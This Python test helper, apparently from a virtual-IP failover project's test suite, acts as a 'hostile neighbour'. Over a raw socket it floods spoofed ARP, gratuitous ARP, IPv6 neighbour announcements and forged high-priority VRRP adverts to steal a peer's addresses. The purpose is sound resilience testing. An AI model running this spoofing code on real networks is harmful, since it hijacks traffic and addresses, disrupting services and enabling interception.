"""A hostile neighbour: ``hostile.py KIND PEER4 PEER6 OWN4 OWN6 OWN_HARDWARE``, until standard input ends.

He claims the own addresses of a node (PEER) and the floating ones, or advertises in its name, every 20 ms. OWN are
those of the node that he wants to yield; ``replies`` go to it alone.
"""

import select
import socket
import struct
import sys
from collections.abc import Iterator
from ipaddress import ip_address

from pyconfd.vip.frames import ETH_P_ARP, announcements, checksum, farewell
from tests.vip.node import VIP4, VIP6

EVERY_S = 0.02
ROUTER, PRIORITY, ADVERT_S = 51, 250, 0.1
_ARP = struct.Struct("!HHBBH6s4s6s4s")


def arp(own: bytes, operation: int, address: str, to: bytes, target: str) -> bytes:
    """Return a question or an answer that says ``address`` is here."""
    there = bytes(6) if operation == 1 else to
    body = _ARP.pack(
        1, 0x0800, 6, 4, operation, own, ip_address(address).packed, there, ip_address(target).packed
    )  # fmt: skip
    return to + own + ETH_P_ARP.to_bytes(2, "big") + body


def advert(own: bytes, to: bytes, source: str, target: str) -> bytes:
    """Return an advert as the node at ``source`` sends it: each of them is the same, so this is a replay as well."""
    vrrp = bytearray(farewell(source, target, ROUTER, ADVERT_S, [VIP4]))
    vrrp[2], vrrp[6:8] = PRIORITY, b"\0\0"
    ends = ip_address(source).packed + ip_address(target).packed
    vrrp[6:8] = checksum(ends + struct.pack("!BBH", 0, 112, len(vrrp)) + vrrp).to_bytes(2, "big")
    head = struct.pack("!BBHHHBBH", 0x45, 0xC0, 20 + len(vrrp), 1, 0, 255, 112, 0) + ends
    head = head[:10] + checksum(head).to_bytes(2, "big") + head[12:]
    return to + own + b"\x08\x00" + head + bytes(vrrp)


def frames(kind: str, own: bytes, to: bytes, peer: tuple[str, str], victim: tuple[str, str]) -> Iterator[bytes]:
    everybody = b"\xff" * 6
    match kind:
        case "replies":
            yield from (arp(own, 2, address, to, victim[0]) for address in (peer[0], VIP4))
        case "requests":
            yield from (arp(own, 1, address, everybody, victim[0]) for address in (peer[0], VIP4))
        case "gratuitous":
            yield from (frame for address in (peer[0], VIP4) for frame in announcements(own, address))
        case "neighbours":
            yield from (frame for address in (peer[1], VIP6) for frame in announcements(own, address))
        case "adverts":
            yield advert(own, to, peer[0], victim[0])
        case _:
            raise ValueError(kind)


def main(kind: str, peer: tuple[str, str], victim: tuple[str, str], to: str) -> None:
    sending = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sending.bind(("eth0", 0))
    own: bytes = sending.getsockname()[4]
    kinds = ("replies", "requests", "gratuitous", "neighbours") if kind == "all" else (kind,)
    sent = [frame for one in kinds for frame in frames(one, own, bytes.fromhex(to.replace(":", "")), peer, victim)]
    while not select.select([sys.stdin], [], [], EVERY_S)[0]:
        for frame in sent:
            sending.send(frame)


if __name__ == "__main__":
    main(sys.argv[1], (sys.argv[2], sys.argv[3]), (sys.argv[4], sys.argv[5]), sys.argv[6])
